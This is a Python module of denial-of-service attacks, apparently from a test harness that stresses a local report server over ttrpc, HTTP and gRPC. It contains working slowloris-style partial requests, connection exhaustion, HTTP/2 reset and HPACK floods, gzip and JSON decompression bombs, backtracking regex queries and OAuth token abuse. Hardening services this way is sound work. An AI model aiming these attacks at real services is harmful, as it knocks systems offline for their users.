"""The attacks. Each is a function of an `Attack`, run in a process of its own until its time is over.

They come from addresses of their own (127.0.0.2 and up), as the server counts peers by address, and from
a tenant of their own.
"""

import contextlib
import gzip
import itertools
import multiprocessing
import random
import select
import socket
import threading
import time

from payloads import PATTERNS, Payloads, marks
from victim import CONTROL, REPORT
from wire import FRAME_BYTES_MAX, SPARE, Caller, Status, connect, field, frame, number_field, request, text

DOMAIN = b"domain-attacker00000"


class Attack:
    def __init__(self, ttrpc, http, grpc, seed, seconds, schema, report):
        self.ttrpc, self.http, self.grpc, self.schema = ttrpc, http, grpc, schema
        self.random = random.Random(seed)
        self.seed = seed
        self.until = time.monotonic() + seconds
        self._report = report
        self.lock = threading.Lock()

    @property
    def goes_on(self):
        return time.monotonic() < self.until

    def tell(self, kind, value):
        """Hands something to who looks on: `accepted` reports, `late` calls, `note`s."""
        self._report.put((kind, value))

    def source(self, index=0):
        return f"127.0.0.{2 + index % 200}"

    def caller(self, index=0, seconds=15.0):
        return Caller(self.ttrpc, self.source(index), seconds)

    def rest(self):
        while self.goes_on:
            time.sleep(0.05)

    def threads(self, count, body):
        made = [threading.Thread(target=self._guard, args=(body, index), daemon=True)
                for index in range(count)]
        for thread in made:
            thread.start()
        for thread in made:
            thread.join(max(0.0, self.until - time.monotonic()) + 1.0)

    def _guard(self, body, index):
        # Refused, reset or not answered: that is the server's right, and the attack goes on.
        while self.goes_on:
            try:
                body(index)
                return
            except (OSError, Status):
                time.sleep(0.1)


def start(name, *arguments):
    """Runs an attack; (process, queue of what it tells)."""
    told = multiprocessing.Queue()
    process = multiprocessing.Process(
        target=_run, args=(name, arguments, told), daemon=True)
    process.start()
    return process, told


def _run(name, arguments, told):
    attack = Attack(*arguments, told)
    try:
        ATTACKS[name](attack)
    except (OSError, Status) as error:
        attack.tell("note", f"ended early: {error}"[:160])


@contextlib.contextmanager
def _timed(attack, what, deadline=0.0):
    """Tells how long a call took, also one that was not answered."""
    begun = time.monotonic()
    try:
        yield
    except Status:
        pass
    except OSError as error:
        what = f"{what}: {error}"
        raise
    finally:
        took = time.monotonic() - begun
        attack.tell("slowest", (took, what))
        if deadline:
            attack.tell("late", took - deadline)


def create(caller, template, name, options=b""):
    made = caller.call(
        REPORT, "create", field(1, DOMAIN) + field(2, b"template-" + template) + field(3, name) +
        (field(4, options) if options else b""))
    return text(made, 2)


def option(key, value):
    """An entry of `template_options` with a text."""
    return field(1, field(1, key) + field(2, field(3, value)))


def every_field(attack):
    """Every field of every message of every method, in every hostile way."""
    payloads = Payloads(attack.schema, attack.seed)
    ways = [(target, way) for target in attack.schema.targets() for way in payloads.strategies(target)]
    attack.random.shuffle(ways)
    endless = itertools.cycle(ways)
    sent = [0]

    def body(index):
        caller = attack.caller(index)
        with contextlib.closing(caller):
            while attack.goes_on:
                with attack.lock:
                    target, way = next(endless)
                    size = attack.random.choices(
                        [4 << 10, 64 << 10, 512 << 10, FRAME_BYTES_MAX], [60, 30, 7, 3])[0]
                    payload = payloads.make(target, way, size)
                    sent[0] += 1
                method = target.method
                what = f"{target} {way} {len(payload)} bytes"
                with _timed(attack, what):
                    answer = caller.call(method.service, method.name, payload, 10)
                    if method.name == "create":
                        attack.tell("accepted", text(answer, 2))

    attack.threads(3, body)
    attack.tell("note", f"{min(sent[0], len(ways))} of {len(ways)} fields x ways")


def patterns(attack):
    """Regular expressions that backtrack, over the names of reports; each call has a deadline."""
    with contextlib.closing(attack.caller()) as caller:
        for index in range(20):
            attack.tell("accepted", create(caller, b"small", b"a" * 250 + b"%d" % index))
            attack.tell("accepted", create(caller, b"small", marks(200)))

    def body(index):
        with contextlib.closing(attack.caller(index)) as caller:
            for round in itertools.count():
                if not attack.goes_on:
                    return
                pattern = PATTERNS[(index + round) % len(PATTERNS)]
                operators = [b"regex", b"regex_in", b"contain", b"not_contain"]
                operator = operators[0] if round % 4 else operators[(index + round) % 4]
                value = field(3, pattern.encode())
                if operator.endswith(b"_in"):
                    value = field(6, b"".join(field(1, field(3, each.encode())) for each in PATTERNS))
                condition = field(1, b"name") + field(3, value) + field(5, operator)
                count = 1 if round % 2 else 80
                query = field(1, condition) * count if round % 3 else field(2, condition) * count
                deadline = 1.0 if round % 4 else 0.0
                with _timed(attack, f"{operator.decode()} {pattern[:30]} x {count}", deadline or 10.0):
                    caller.call(REPORT, "list", field(1, DOMAIN) + field(2, query), deadline)

    attack.threads(8, body)


def pipelined(attack):
    """Thousands of lists in one write, with answers that are much larger than the question."""
    with contextlib.closing(attack.caller()) as caller:
        big = option(b"s", b"x" * 200_000)
        for index in range(30):
            attack.tell("accepted", create(caller, b"texts", b"large %d" % index, big))
    lists = b"".join(
        frame(2 * index + 1, request(REPORT, "list", field(1, DOMAIN))) for index in range(2000))

    def body(index):
        while attack.goes_on:
            with contextlib.closing(connect(attack.ttrpc, attack.source(index), 2)) as peer:
                _send_some(peer, lists, 1)
                _until(attack, 2)

    attack.threads(8, body)


def unread(attack):
    """Answers and streams that nobody reads, over small receive buffers."""
    with contextlib.closing(attack.caller()) as caller:
        report = create(caller, b"texts", b"unread", option(b"s", b"x" * 200_000))
        attack.tell("accepted", report)
    get = request(REPORT, "get", field(1, DOMAIN) + field(2, report.encode()))
    watch = request(CONTROL, "watch", field(1, DOMAIN) + field(2, report.encode()))
    peers = []
    for index in range(100):
        with contextlib.suppress(OSError):
            peer = connect(attack.ttrpc, attack.source(index), 2, receive_buffer=2048)
            peers.append(peer)
            _send_some(peer, b"".join(
                frame(2 * each + 1, watch if each % 20 == 0 else get) for each in range(1000)), 0.2)
        if not attack.goes_on:
            break
    attack.tell("note", f"{len(peers)} connections")
    attack.rest()


def half_frames(attack):
    """Frames that say 4 MiB and stop before the end."""
    body = bytes(FRAME_BYTES_MAX - SPARE)
    peers = []
    for index in range(200):
        if not attack.goes_on:
            break
        with contextlib.suppress(OSError):
            peer = connect(attack.ttrpc, attack.source(index), 2)
            peers.append(peer)
            _send_some(peer, frame(1, body, length=FRAME_BYTES_MAX), 0.3)
    attack.tell("note", f"{len(peers)} connections")
    attack.rest()


def slow_bytes(attack):
    """A byte now and then, on many connections, in the middle of a header or a frame."""
    call = frame(1, request(REPORT, "list", field(1, DOMAIN)))
    peers = []
    for index in range(200):
        with contextlib.suppress(OSError):
            peers.append(connect(attack.ttrpc, attack.source(index), 2))
    at = 0
    while attack.goes_on:
        for peer in peers:
            with contextlib.suppress(OSError):
                peer.send(call[at % len(call):at % len(call) + 1])
        at += 1
        time.sleep(0.2)


def connections(attack):
    """As many silent connections as one address gets, and as many of others."""
    peers, refused = [], 0
    for index in range(6000):
        if not attack.goes_on:
            break
        try:
            # One address first; then some others.
            peers.append(connect(attack.ttrpc, attack.source(index // 2000), 1))
        except OSError:
            refused += 1
            if refused > 200:
                break
    closed = sum(1 for peer in peers if is_closed(peer))
    attack.tell("note", f"{len(peers)} opened, {refused} refused, {closed} closed by the server")
    attack.rest()


def creates(attack):
    """Reports with as many options as are taken, as fast as they are taken."""
    def body(index):
        caller = attack.caller(index)
        with contextlib.closing(caller):
            for round in itertools.count():
                if not attack.goes_on:
                    return
                size = [240_000, 3_500_000, 100][round % 3]
                with contextlib.suppress(Status):
                    attack.tell("accepted", create(
                        caller, b"texts", b"flood", option(b"s", b"x" * size)))

    attack.threads(6, body)


def slow_runs(attack):
    """Reports that run as long as they may, one after the other."""
    reports = []
    with contextlib.closing(attack.caller()) as caller:
        for index in range(30):
            with contextlib.suppress(Status):
                reports.append(create(caller, b"slow", b"slow %d" % index))
                attack.tell("accepted", reports[-1])
        attack.rest()
        for report in reports:
            with contextlib.suppress(Status):
                caller.call(CONTROL, "cancel", field(1, DOMAIN) + field(2, report.encode()))


def garbage(attack):
    """Bytes that are no frames, frames that are no requests, streams that go backwards."""
    def body(index):
        noise = random.Random(attack.seed + index)
        while attack.goes_on:
            with contextlib.suppress(OSError), contextlib.closing(
                    connect(attack.ttrpc, attack.source(index), 1)) as peer:
                call = request(REPORT, "list", field(1, DOMAIN))
                peer.sendall(noise.choice([
                    noise.randbytes(10_000),
                    frame(2, call) + frame(1, call) + frame(1, call),
                    frame(1, call, kind=2) + frame(1, call, kind=3) + frame(3, call, kind=9),
                    frame(1, noise.randbytes(2000)),
                    frame(1, call, flags=255),
                    frame(1, call, length=0xFFFF_FFFF),
                    frame(1, field(1, b"x" * 100_000) + field(2, marks(100_000))),
                    b"GET / HTTP/1.1\r\n\r\n" * 100,
                ]))
                peer.settimeout(0.2)
                with contextlib.suppress(OSError):
                    peer.recv(65536)

    attack.threads(6, body)


def hang_ups(attack):
    """Callers that leave in the middle of what they asked for."""
    def body(index):
        while attack.goes_on:
            with contextlib.closing(connect(attack.ttrpc, attack.source(index), 2)) as peer:
                peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                peer.sendall(b"".join(
                    frame(2 * each + 1, request(REPORT, "list", field(1, DOMAIN)))
                    for each in range(attack.random.choice([1, 50]))))

    attack.threads(4, body)


def metadata(attack):
    """Metadata of every size, deadlines that are over before they begin."""
    def body(index):
        with contextlib.closing(attack.caller(index)) as caller:
            for round in itertools.count():
                if not attack.goes_on:
                    return
                pairs, timeout = [
                    ([("k%d" % each, "v" * 100) for each in range(128)], 0),
                    ([("k%d" % each, "v") for each in range(50_000)], 0),
                    ([("user_id", "e" + "\u0301\u0316" * 400_000)], 0),
                    ([("e" + "\u0316\u0301" * 1000 + str(each), "v") for each in range(500)], 0),
                    ([("idempotency-key", "e" + "\u0301\u0316" * 500_000)], 0),
                    ([("traceparent", "0" * 3_000_000)], 0),
                    ([], 1e-9),
                ][round % 7]
                method = ["list", "create", "get"][round % 3]
                with contextlib.suppress(Status):
                    caller.call(REPORT, method, field(1, DOMAIN), timeout, pairs)

    attack.threads(4, body)


def http_silent(attack):
    """Two thousand HTTP connections that say nothing."""
    _http_hold(attack, lambda peer: None)


def http_half(attack):
    """Requests that never end: half a line, a header without end, a byte now and then."""
    starts = [b"GET /che", b"GET /check HTTP/1.1\r\nHost: x\r\nX: ", b"GET /check HTTP/1.1\r\n" + b"A: b\r\n" * 50,
              b"POST /check HTTP/1.1\r\nContent-Length: 1000000000\r\n\r\nx"]
    _http_hold(attack, lambda peer: peer.sendall(attack.random.choice(starts)), b"x")


def http_flood(attack):
    """Requests as fast as they go, pipelined, answers unread, paths and headers of every size."""
    ask = [b"GET /check HTTP/1.1\r\nHost: x\r\n\r\n" * 200,
           b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
           b"GET /check HTTP/1.1\r\nHost: x\r\nX: " + b"y" * 500_000 + b"\r\n\r\n",
           b"GET /v1/reports/x/csv?expires=1&signature=" + b"%cc%81" * 2000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
           b"GET /check HTTP/1.1\r\nHost: x\r\nRange: bytes=" + b"0-1," * 5000 + b"0-1\r\n\r\n"]

    def body(index):
        while attack.goes_on:
            with contextlib.closing(connect(attack.http, attack.source(index), 1)) as peer:
                with contextlib.suppress(OSError):
                    peer.sendall(ask[attack.random.randrange(len(ask))])
                    if index % 2:
                        peer.recv(65536)

    attack.threads(8, body)


def grpc_floods(attack):
    """Frames that cost their sender nothing, calls that are withdrawn, headers that grow: over HTTP/2."""
    call = _h2_call(1, b"get", field(1, DOMAIN) + field(2, b"report-000000000000"))
    reset = _h2(3, 0, 1, (8).to_bytes(4, "big"))
    # HPACK: an entry of the table, and then a byte for each time that it is meant.
    bomb = _h2_headers(1, b"get", tail=b"\x40\x01b\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12_000)
    floods = [
        _h2(6, 0, 0, bytes(8)) * 5000, _h2(4, 0, 0, b"") * 5000, _h2(8, 0, 0, b"\0\0\0\1") * 5000,
        _h2(2, 0, 1, b"\0\0\0\0\1") * 5000, bomb, _h2_headers(1, b"get") + _h2(0, 0, 1, b"") * 5000,
        b"".join(_h2_call(2 * each + 1, b"list", field(1, DOMAIN)) + _h2(3, 0, 2 * each + 1, reset[-4:])
                 for each in range(2000)),
        b"".join(_h2_call(2 * each + 1, b"get", call[:20]) for each in range(2000)),
    ]

    def body(index):
        while attack.goes_on:
            with contextlib.closing(connect(attack.grpc, attack.source(index), 1)) as peer:
                _send_some(peer, H2_PREFACE + attack.random.choice(floods), 1)

    attack.threads(8, body)


def grpc_unread(attack):
    """Lists and long messages over HTTP/2, with windows that stay closed."""
    calls = b"".join(
        _h2_call(2 * each + 1, b"list", field(1, DOMAIN)) for each in range(500))
    half = b"".join(
        _h2_headers(2 * each + 1, b"create") + _h2(0, 0, 2 * each + 1, b"\0\0\x3f\xff\0" + bytes(8000))
        for each in range(500))
    peers = []
    for index in range(200):
        if not attack.goes_on:
            break
        with contextlib.suppress(OSError):
            peer = connect(attack.grpc, attack.source(index), 2, receive_buffer=2048)
            peers.append(peer)
            _send_some(peer, H2_PREFACE + (half if index % 2 else calls), 0.2)
    attack.tell("note", f"{len(peers)} connections")
    attack.rest()


def rest_bodies(attack):
    """JSON that makes a reader pay more than it was sent, in bodies, in queries and behind gzip."""
    size = 4_000_000
    search, create = "/report/v1/reports/search", "/report/v1/report"
    domain = DOMAIN.decode()

    def options(text):
        return create, f'{{"domain_id":"{domain}","template_id":"x","name":"n","template_options":{text}}}'

    def gzipped(text):
        return gzip.compress(text.encode(), 6)

    numbers = ",".join(map(str, range(size // 8)))
    members = ",".join(f'"k{each}":{each}' for each in range(size // 16))
    bodies = [
        options("[" * (size // 2)), options('{"a":' * (size // 6)), options("{" + members + "}"),
        options('{"a":[' + numbers + "]}"), options('{"a":"' + "\\u0041" * (size // 6) + '"}'),
        options('{"' + marks(size).decode() + '":1}'), options('{"a":' + "9" * size + "}"),
        options("{" + '"a":1,' * (size // 6) + '"a":1}'),
        (search, '{"domain_id":"' + domain + '","query":{"filter":[' + '{"k":"name"},' * (size // 13) + '{}]}}'),
        (search, '{"unknown":' + "[" * 1000 + "]" * 1000 + "}"), (search, '"' * size), (search, "\x00" * size),
    ]
    bomb = gzip.compress(b" " * (1 << 28), 9)
    sent = [(path, text.encode(), "") for path, text in bodies]
    sent += [(path, gzipped(text), "gzip") for path, text in bodies] + [(create, bomb, "gzip")]
    paths = ["/report/v1/reports?" + "&".join(f"query.filter.key=a{each}" for each in range(4000)),
             "/report/v1/reports?domain_id=" + "%41" * 20_000, "/report/v1/report/" + "%2F" * 20_000,
             "/report/v1/reports?" + "query." * 10_000 + "x=1", "/" * 60_000]

    def body(index):
        with contextlib.closing(connect(attack.http, attack.source(index), 10)) as peer:
            while attack.goes_on:
                if attack.random.random() < 0.2:
                    peer.sendall(f"GET {attack.random.choice(paths)} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                else:
                    path, data, encoding = attack.random.choice(sent)
                    coding = f"Content-Encoding: {encoding}\r\n" if encoding else ""
                    peer.sendall((f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{coding}"
                                  f"Content-Length: {len(data)}\r\n\r\n").encode() + data)
                if not peer.recv(65536):
                    return

    attack.threads(8, body)


def sailpoint(attack):
    """SailPoint's calls with ids, arguments, queries and bodies that nobody should believe, and runs that never end."""
    bodies = [
        "{", "[]", "", "null", '{"reportType":"SEARCH_EXPORT","arguments":' + "[" * 100_000,
        '{"reportType":"SEARCH_EXPORT","arguments":{"query":"' + marks(100_000).decode() + '"}}',
        '{"reportType":"' + "A" * 100_000 + '"}', '{"reportType":1}',
        '{"reportType":"SEARCH_EXPORT","arguments":{"query":"x","formats":["csv"]}}',
        '{"reportType":"ORPHAN_IDENTITIES","arguments":{"selectedFormats":[' + "[]," * 30_000 + "[]]}}",
        '{"reportType":"SEARCH_EXPORT","arguments":{"query":"slow"}}',
    ]
    identities = ["run", "0" * 32, "7265706f727477697265" + "0" * 12, "%2F" * 5000, "%ff", "%", "a" * 15_000]
    queries = ["", "fileFormat=csv", "fileFormat=%ff", "fileFormat=csv&name=" + "%0A" * 4000, "&" * 10_000,
               "fileFormat=CSV&auditable=2", "fileFormat=" + "c" * 10_000]
    bases = ["/v3/reports", "/beta/reports", "/v2026/reports", "/reports/v1"]

    def body(index):
        pick = attack.random.choice
        with contextlib.closing(connect(attack.http, attack.source(index), 10)) as peer:
            while attack.goes_on:
                base = pick(bases)
                if attack.random.random() < 0.5:
                    data = pick(bodies).encode()
                    peer.sendall((f"POST {base}/run HTTP/1.1\r\nHost: x\r\nX-Domain-Id: {DOMAIN.decode()}\r\n"
                                  f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
                                  ).encode() + data)
                else:
                    verb, tail = pick([("GET", ""), ("GET", "/result"), ("POST", "/cancel"), ("PUT", "/x/y")])
                    peer.sendall((f"{verb} {base}/{pick(identities)}{tail}?{pick(queries)} HTTP/1.1\r\nHost: x\r\n"
                                  "Content-Length: 0\r\n\r\n").encode())
                if not peer.recv(65536):
                    return

    attack.threads(8, body)


def tokens(attack):
    """Secrets that are wrong, from everywhere and many at once, forms of all kinds and lengths, some of them slow,
    and tokens that nobody gave at the doors behind."""
    grant = "grant_type=client_credentials&client_id="
    forms = [
        grant + "nobody&client_secret=x", grant + "0" * 32 + "&client_secret=" + "x" * 255,
        grant + "nobody&client_secret=x&scope=" + "sp:scopes:all+" * 1000, "a&" * 8192, "a&" * 2_000_000,
        "a=b&" * 4000, "%41" * 5000, "%" * 16_000, "%ff=%ff", "grant_type=" + "x" * 16_000, "", "&", "=",
        "grant_type=refresh_token&client_id=nobody&client_secret=x&refresh_token=" + "x.y.z" * 3000,
        grant + "nobody&client_secret=x&client_secret=y", grant + marks(16_000).decode() + "&client_secret=x",
    ]
    sent = [(form.encode(), "") for form in forms] + [(gzip.compress(b"a&" * (1 << 26), 9), "gzip")]
    basics = ["", "!", "Og==", "bm9ib2R5Ong=", "A" * 8000]
    bearers = ["x", "x.y.z", "A" * 8192, "A" * 9000, "eyJhbGciOiJub25lIn0.e30.",
               "eyJhbGciOiJFZERTQSIsImtpZCI6InJlcG9ydHdpcmUtMCJ9.e30.AAAA", "." * 8000]
    type = "Content-Type: application/x-www-form-urlencoded\r\n"

    def one(peer):
        pick, chance = attack.random.choice, attack.random.random()
        if chance < 0.2:
            verb, path = pick([("GET", "/v3/reports/x/result"), ("POST", "/reports/v1/run"),
                               ("GET", "/reports/v1/x?fileFormat=csv"), ("GET", "/report/v1/reports")])
            peer.sendall((f"{verb} {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {pick(bearers)}\r\n"
                          "Content-Length: 0\r\n\r\n").encode())
        elif chance < 0.3:
            query = pick(["?" + pick(forms)[:50_000], "?" + "a&" * 20_000, ""])
            peer.sendall((f"POST /oauth/token{query} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {pick(basics)}\r\n"
                          "Content-Length: 0\r\n\r\n").encode())
        else:
            data, encoding = pick(sent)
            coding = f"Content-Encoding: {encoding}\r\n" if encoding else ""
            peer.sendall((f"POST /oauth/token HTTP/1.1\r\nHost: x\r\n{type}{coding}"
                          f"Content-Length: {len(data)}\r\n\r\n").encode() + data)
        return peer.recv(65536)

    def slow(peer):
        peer.sendall(f"POST /oauth/token HTTP/1.1\r\nHost: x\r\n{type}Content-Length: 16000\r\n\r\n".encode())
        while attack.goes_on:
            peer.sendall(b"a")
            time.sleep(0.2)

    def body(index):
        with contextlib.closing(connect(attack.http, attack.source(index + attack.random.randrange(200)), 10)) as peer:
            if index < 8:
                slow(peer)
            while attack.goes_on and one(peer):
                pass

    attack.threads(72, body)


def rest_unread(attack):
    """Lists and watches by REST, asked for one behind the other, and nothing read of the answers."""
    ask = (b"GET /report/v1/reports?domain_id=" + DOMAIN + b" HTTP/1.1\r\nHost: x\r\n\r\n") * 200
    with contextlib.closing(attack.caller()) as caller:
        report = create(caller, b"slow", b"watched")
        attack.tell("accepted", report)
    watch = (b"GET /reportwire/v1/report/" + report.encode() + b"/watch?domain_id=" + DOMAIN +
             b" HTTP/1.1\r\nHost: x\r\n\r\n")
    peers = []
    for index in range(400):
        if not attack.goes_on:
            break
        with contextlib.suppress(OSError):
            peer = connect(attack.http, attack.source(index), 2, receive_buffer=2048)
            peers.append(peer)
            _send_some(peer, watch if index % 2 else ask, 0.1)
    attack.tell("note", f"{len(peers)} connections")
    attack.rest()


H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def _h2(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _h2_headers(stream, method, tail=b""):
    def literal(name, value):
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    block = (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":authority", b"x") +
             literal(b":path", b"/" + REPORT.encode() + b"/" + method) +
             literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + tail)
    return _h2(1, 4, stream, block)


def _h2_call(stream, method, message):
    return _h2_headers(stream, method) + _h2(
        0, 1, stream, b"\0" + len(message).to_bytes(4, "big") + message)


def _http_hold(attack, greet, drip=b""):
    peers = []
    for index in range(2000):
        if not attack.goes_on:
            break
        with contextlib.suppress(OSError):
            peer = connect(attack.http, attack.source(index % 8), 0.5)
            peers.append(peer)
            greet(peer)
    attack.tell("note", f"{len(peers)} connections")
    while attack.goes_on:
        if drip:
            for peer in peers:
                with contextlib.suppress(OSError):
                    peer.send(drip)
        time.sleep(0.5)


def _send_some(peer, data, seconds):
    """As much as goes out in a time."""
    end = time.monotonic() + seconds
    peer.setblocking(False)
    view = memoryview(data)
    while view and (left := end - time.monotonic()) > 0:
        _, writable, _ = select.select([], [peer], [], left) if peer.fileno() < 1024 else ([], [peer], [])
        if not writable:
            return
        try:
            view = view[peer.send(view[:262144]):]
        except BlockingIOError:
            time.sleep(0.01)


def halves(ttrpc, http, grpc):
    """Half a frame and half a request: (name, socket, since when)."""
    made = []
    for name, address, data in (
            ("half a frame", ttrpc, frame(1, b"x" * 10, length=1000)), ("half a header", ttrpc, b"\0\0"),
            ("half a request", http, b"GET /check HTTP/1.1\r\nHost:"),
            ("half a call", grpc, H2_PREFACE + _h2_headers(1, b"get"))):
        peer = connect(address, "127.0.0.250")
        peer.sendall(data)
        made.append((name, peer, time.monotonic()))
    return made


def is_closed(peer):
    peer.setblocking(False)
    try:
        # An answer may stand before the end.
        while peer.recv(65536):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def _until(attack, seconds):
    end = min(attack.until, time.monotonic() + seconds)
    while time.monotonic() < end:
        time.sleep(0.05)


ATTACKS = {
    "every-field": every_field, "patterns": patterns, "pipelined": pipelined, "unread": unread,
    "half-frames": half_frames, "slow-bytes": slow_bytes, "connections": connections,
    "creates": creates, "slow-runs": slow_runs, "garbage": garbage, "hang-ups": hang_ups,
    "metadata": metadata, "http-silent": http_silent, "http-half": http_half, "http-flood": http_flood,
    "grpc-floods": grpc_floods, "grpc-unread": grpc_unread,
    "rest-bodies": rest_bodies, "rest-unread": rest_unread,
    "sailpoint": sailpoint, "tokens": tokens,
}
# Those of a server that asks its callers for tokens and gives them.
OF_TOKENS = ["tokens"]
